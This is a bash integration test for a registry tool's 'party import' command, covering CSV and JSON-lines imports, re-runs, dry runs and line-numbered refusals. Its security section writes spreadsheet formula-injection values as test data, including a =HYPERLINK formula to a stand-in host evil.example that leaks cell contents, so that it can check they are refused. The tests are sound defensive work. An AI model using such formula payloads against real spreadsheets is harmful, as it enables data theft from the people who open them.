#!/usr/bin/env bash
# carnet party import: the registry in bulk, against a real carnetd and
# its LMDB store.  Parties from a file connect and act as their role;
# a re-run adds nothing; a bad line, an id given twice or an id registered
# with other details refuses the whole file and writes nothing.
source "$(dirname "$0")/itlib.sh"
start_broker
people=$(seq -f "p%g" 1 40)
# shellcheck disable=SC2086
keys $people mgen budget late
list() { "$B/carnet" party list --data "$DATA" --json | jq -s length; }
PI() { "$B/carnet" party import --data "$DATA" "$@"; }

{
  echo "role,name,id,types,purposes,owner,business_model"
  for p in $people; do echo "user,$p,$(id "$p"),,,,"; done
  echo "holder,mgen,$(id mgen),claim|dispense,,,"
  echo "app,budget,$(id budget),,budget|prevention,\"Budget SAS\",subscription"
} >"$T/parties.csv"
PI --batch 15 --role user,holder,app "$T/parties.csv" >"$T/o" 2>"$T/e" || fail "import: $(cat "$T/e")"
grep -q "42 lines: 42 new parties added, 0 already registered" "$T/o" || fail "report: $(cat "$T/o")"
grep -q "30 of 42 new parties written" "$T/e" || fail "no progress per batch: $(cat "$T/e")"
[ "$(list)" -eq 42 ] || fail "$(list) parties registered, want 42"
"$B/carnet" party list --data "$DATA" --json | jq -s -e 'map(select(.name == "budget"))[0] | .purposes == ["budget", "prevention"] and .owner == "Budget SAS" and .business_model == "subscription" and .role == "app"' >/dev/null || fail "the app's details"
# they are real parties: the holder puts, the person consents, the app gets
claims p7 c 3 | C mgen put --type claim >/dev/null 2>"$T/e" || fail "put by an imported holder: $(cat "$T/e")"
C p7 consent grant --app "$(id budget)" --types claim --purpose budget --yes >/dev/null 2>"$T/e" || fail "grant by an imported person: $(cat "$T/e")"
C budget subscribe --idle-exit 2 >"$T/feed.jsonl" 2>/dev/null
[ "$(wc -l <"$T/feed.jsonl")" -eq 3 ] || fail "the imported app got $(wc -l <"$T/feed.jsonl") records, want 3"
ok "42 parties from a CSV file in batches of 15, with progress; an imported holder, person and app exchange records"

PI --role user --role holder,app "$T/parties.csv" >"$T/o" 2>"$T/e" || fail "re-run: $(cat "$T/e")"
grep -q "42 lines: 0 new parties added, 42 already registered" "$T/o" || fail "re-run report: $(cat "$T/o")"
[ "$(list)" -eq 42 ] || fail "a re-run changed the registry"
ok "a re-run adds nothing"

# JSON lines, and a grown file: only the new line is written
{ "$B/carnet" party list --data "$DATA" --json | jq -c 'select(.role == "user") | {role, name, id}'
  printf '{"role":"user","name":"late","id":"%s"}\n' "$(id late)"; } >"$T/more.jsonl"
PI --dry-run "$T/more.jsonl" >"$T/o" 2>"$T/e" || fail "dry run: $(cat "$T/e")"
grep -q "41 lines: 1 new party to add (dry run: nothing written), 40 already registered" "$T/o" || fail "dry-run report: $(cat "$T/o")"
[ "$(list)" -eq 42 ] || fail "a dry run wrote"
PI "$T/more.jsonl" >"$T/o" 2>"$T/e" || fail "jsonl: $(cat "$T/e")"
grep -q "1 new party added, 40 already registered" "$T/o" && [ "$(list)" -eq 43 ] || fail "jsonl import: $(cat "$T/o")"
# a file saved by Excel as "CSV UTF-8" starts with a byte order mark
keys bom
printf '\xef\xbb\xbfrole,name,id\r\nuser,bom,%s\r\n' "$(id bom)" >"$T/bom.csv"
PI "$T/bom.csv" >"$T/o" 2>"$T/e" || fail "a CSV with a byte order mark: $(cat "$T/e")"
[ "$(list)" -eq 44 ] || fail "the BOM file added $(( $(list) - 43 )) parties"
ok "JSON lines; --dry-run writes nothing; a grown file adds only its new lines; a CSV from Excel (BOM, CRLF)"

# refused whole, naming the line, nothing written (even one line per
# transaction: every line is checked before the first is written)
keys n1 n2 n3
bad() { # name, file, expected message
  PI --batch 1 --role user,holder,app "$2" >"$T/o" 2>"$T/e" && fail "$1 was accepted"
  grep -q "$3" "$T/e" || fail "$1: $(cat "$T/e")"
  [ "$(list)" -eq 44 ] || fail "$1: something was written ($(list) parties)"
}
printf 'role,name,id\nuser,n1,%s\nuser,n2,%s\nholder,n3,%s\n' "$(id n1)" "$(id n2)" "$(id n3)" >"$T/b1.csv"
bad "a holder without types" "$T/b1.csv" "line 4: a holder needs at least one type"
printf 'role,name,id,types\nuser,n1,%s,\nholder,n3,%s,claim|x-ray\n' "$(id n1)" "$(id n3)" >"$T/b2.csv"
bad "an unknown type" "$T/b2.csv" "line 3: unknown record type 'x-ray'"
printf 'role,name,id\nuser,n1,%s\nuser,n2,%s\nuser,n1b,%s\n' "$(id n1)" "$(id n2)" "$(id n1)" >"$T/b3.csv"
bad "an id twice" "$T/b3.csv" "line 4: .* is on line 2 too"
printf 'role,name,id\nuser,n1,%s\nuser,other-name,%s\n' "$(id n1)" "$(id p3)" >"$T/b4.csv"
bad "an id registered with other details" "$T/b4.csv" "line 3: .* already registered, as user p3, with other details"
printf 'role,name,id,nickname\nuser,n1,%s,x\n' "$(id n1)" >"$T/b5.csv"
bad "an unknown column" "$T/b5.csv" "line 1: unknown column 'nickname'"
printf '{"role":"user","name":"n1","id":"%s"}\n{"role":"user","name":"n2","id":"%s","age":3}\n' "$(id n1)" "$(id n2)" >"$T/b6.jsonl"
bad "an unknown key" "$T/b6.jsonl" "line 2: unknown key 'age'"
printf '{"role":"user","name":"n1","id":"%s"}\n{"role":"user","name":"n2","id":"%s"\n' "$(id n1)" "$(id n2)" >"$T/b7.jsonl"
bad "a truncated line" "$T/b7.jsonl" "line 2: not JSON"
printf 'role,name,id\nuser,n1,%s\nuser,n2,notanid\n' "$(id n1)" >"$T/b8.csv"
bad "a bad id" "$T/b8.csv" "line 3: id: 'notanid' is not a carnet id"
# well spelt, but not a public key (32 zero bytes): refused before writing
printf 'role,name,id\nuser,n1,%s\nuser,n2,%s\n' "$(id n1)" "$(printf 'a%.0s' $(seq 52))" >"$T/b9.csv"
bad "an id that is no key" "$T/b9.csv" "line 3: id: 'aaaa*' is not a carnet id"
ok "refused whole, naming the line, nothing written: a holder without types, an unknown type, an id twice, an id registered otherwise, an unknown column or key, truncated JSON, a bad id, an id that is no key"

# security issue 2, item 5: the file declares its kind (--role, people by
# default); roles beyond it are refused, and so are fields a role does not
# have and text a spreadsheet would run
keys op1 h1
# refused WHAT FILE MESSAGE [import options]: exit 1, the exact message, nothing written
refused() {
  local what=$1 file=$2 msg=$3; shift 3
  PI "$@" "$file" >"$T/o" 2>"$T/e"; rc=$?
  [ $rc -eq 1 ] || fail "$what: exit $rc, want 1 ($(cat "$T/e"))"
  grep -qxF "carnet party import: $msg" "$T/e" || fail "$what: $(cat "$T/e"), want: $msg"
  [ "$(list)" -eq 44 ] || fail "$what: something was written ($(list) parties)"
}
printf 'role,name,id\nuser,n1,%s\noperator,op1,%s\n' "$(id n1)" "$(id op1)" >"$T/r1.csv"
refused "an operator line in a members file" "$T/r1.csv" "line 3: operator op1: this import takes user only; name the role to import operators too (--role user,operator) [forbidden]"
printf '{"role":"user","name":"n1","id":"%s"}\n{"role":"holder","name":"h1","id":"%s","types":["claim"]}\n' "$(id n1)" "$(id h1)" >"$T/r2.jsonl"
refused "a holder line in a members file" "$T/r2.jsonl" "line 2: holder h1: this import takes user only; name the role to import holders too (--role user,holder) [forbidden]"
refused "an operator line with holders named" "$T/r1.csv" "line 3: operator op1: this import takes user, holder only; name the role to import operators too (--role user,holder,operator) [forbidden]" --role user,holder
PI --role nobody "$T/r1.csv" >"$T/o" 2>"$T/e" && fail "an unknown --role was taken"
grep -qxF "carnet party import: --role: 'nobody' is not user, holder, app or operator [bad_arg]" "$T/e" || fail "unknown --role: $(cat "$T/e")"
printf 'role,name,id,types\nuser,n1,%s,claim\n' "$(id n1)" >"$T/f1.csv"
refused "types on a user line" "$T/f1.csv" "line 2: types: for a holder only, not a user [bad_value]"
printf 'role,name,id,purposes\nuser,n1,%s,\nuser,n2,%s,budget\n' "$(id n1)" "$(id n2)" >"$T/f2.csv"
refused "purposes on a user line" "$T/f2.csv" "line 3: purposes: for an app only, not a user [bad_value]"
printf '{"role":"holder","name":"h1","id":"%s","types":["claim"],"owner":"Mutuelle SA"}\n' "$(id h1)" >"$T/f3.jsonl"
refused "an owner on a holder line" "$T/f3.jsonl" "line 1: owner: for an app only, not a holder [bad_value]" --role holder
printf 'role,name,id,business_model\noperator,op1,%s,ads\n' "$(id op1)" >"$T/f4.csv"
refused "a business model on an operator line" "$T/f4.csv" "line 2: business_model: for an app only, not an operator [bad_value]" --role operator
printf 'name,id\nn1,%s\n"=HYPERLINK(""http://evil.example/?""&A1,""see"")",%s\n' "$(id n1)" "$(id n2)" >"$T/x1.csv"
refused "a formula name" "$T/x1.csv" "line 3: name: '=HYPERLINK(\"http://evil.example/?\"&A1,\"s' starts with '=', which a spreadsheet takes for a formula: start it with a letter or a digit [bad_value]"
for c in + - @; do
  printf 'name,id\n%s1,%s\n' "$c" "$(id n1)" >"$T/x2.csv"
  refused "a name starting with $c" "$T/x2.csv" "line 2: name: '${c}1' starts with '$c', which a spreadsheet takes for a formula: start it with a letter or a digit [bad_value]"
done
printf 'name,id\n"\tn1",%s\n' "$(id n1)" >"$T/x3.csv"
refused "a name starting with a tab" "$T/x3.csv" "line 2: name: holds control or escape characters [control_chars] [bad_value]"
printf '{"role":"app","name":"a1","id":"%s","purposes":["budget"],"owner":"@cmd","business_model":"free"}\n' "$(id h1)" >"$T/x4.jsonl"
refused "an owner starting with @" "$T/x4.jsonl" "line 1: owner: '@cmd' starts with '@', which a spreadsheet takes for a formula: start it with a letter or a digit [bad_value]" --role app
ok "a members file (people only unless --role names more) is refused for an operator or holder line; types, purposes, owner or business model on a role that has none; a name or owner starting with = + - @ or a tab"

# the declared kinds import: operators when named; a file of one role
# needs no role column
printf 'role,name,id\nuser,n1,%s\noperator,op1,%s\n' "$(id n1)" "$(id op1)" >"$T/r1.csv"
PI --role user,operator "$T/r1.csv" >"$T/o" 2>"$T/e" || fail "operators named: $(cat "$T/e")"
"$B/carnet" party list --data "$DATA" --json | has '.name=="op1" and .role=="operator"' || fail "the operator was not registered"
printf 'name,id\nn2,%s\nn3,%s\n' "$(id n2)" "$(id n3)" >"$T/m.csv"
PI "$T/m.csv" >"$T/o" 2>"$T/e" || fail "a members file without a role column: $(cat "$T/e")"
"$B/carnet" party list --data "$DATA" --json | jq -s -e 'map(select(.name == "n2" or .name == "n3") | .role) == ["user", "user"]' >/dev/null || fail "n2 and n3 are not users"
PI --role user,app "$T/m.csv" >"$T/o" 2>"$T/e" && fail "no role column with two roles"
grep -qF "line 1: the header needs role, name and id (role may be left out when --role names one)" "$T/e" || fail "no role column with two roles: $(cat "$T/e")"
[ "$(list)" -eq 48 ] || fail "$(list) parties, want 48"
ok "operators imported when named (--role user,operator); a file of people needs no role column"

# party add refuses the same; party list --csv is the import's columns,
# quoted, and round-trips into another broker
"$B/carnet" party add --data "$DATA" --role user --name "=1+2" --id "$(id h1)" >/dev/null 2>"$T/e" && fail "party add took a formula name"
grep -qxF "carnet party add: name: '=1+2' starts with '=', which a spreadsheet takes for a formula: start it with a letter or a digit [bad_value]" "$T/e" || fail "party add formula: $(cat "$T/e")"
"$B/carnet" party add --data "$DATA" --role user --name h1 --id "$(id h1)" --type claim >/dev/null 2>"$T/e" && fail "party add took types for a user"
grep -qxF "carnet party add: types: for a holder only, not a user [bad_value]" "$T/e" || fail "party add types for a user: $(cat "$T/e")"
"$B/carnet" party add --data "$DATA" --role app --name quoted --id "$(id h1)" --purpose budget --owner 'Budget, "the" SAS' --business-model subscription >/dev/null || fail "party add quoted"
"$B/carnet" party list --data "$DATA" --csv >"$T/reg.csv" || fail "party list --csv"
head -1 "$T/reg.csv" | grep -qx "role,name,id,types,purposes,owner,business_model" || fail "csv header: $(head -1 "$T/reg.csv")"
grep -qxF "app,quoted,$(id h1),,budget,\"Budget, \"\"the\"\" SAS\",subscription" "$T/reg.csv" || fail "csv quoting: $(grep quoted "$T/reg.csv")"
grep -qxF "holder,mgen,$(id mgen),claim|dispense,,," "$T/reg.csv" || fail "csv types: $(grep mgen "$T/reg.csv")"
[ "$(($(wc -l <"$T/reg.csv") - 1))" -eq 49 ] || fail "csv has $(wc -l <"$T/reg.csv") lines"
stop_broker
DATA=$T/copy start_broker; stop_broker
"$B/carnet" party import --data "$T/copy" --role user,holder,app,operator "$T/reg.csv" >"$T/o" 2>"$T/e" || fail "csv re-import: $(cat "$T/e")"
"$B/carnet" party list --data "$T/copy" --csv | cmp -s - "$T/reg.csv" || fail "the registry did not round-trip"
ok "party add refuses a formula name and types for a user; party list --csv, quoted, round-trips through party import"
echo "$pass passed, 0 failed"
